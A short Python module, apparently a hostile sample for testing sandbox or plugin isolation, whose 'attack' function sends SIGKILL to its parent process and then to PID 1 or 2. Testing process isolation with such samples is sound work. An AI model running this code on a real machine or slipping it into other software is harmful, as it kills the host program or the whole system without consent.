"""Kills whatever started it."""

import os
import signal


def attack(*args, **kwargs):
    for number in (os.getppid(), 1, 2):
        if number not in (os.getpid(), 0):
            try:
                os.kill(number, signal.SIGKILL)
                return f"took the life of {number}"
            except OSError:
                continue
    return "nobody was killed"
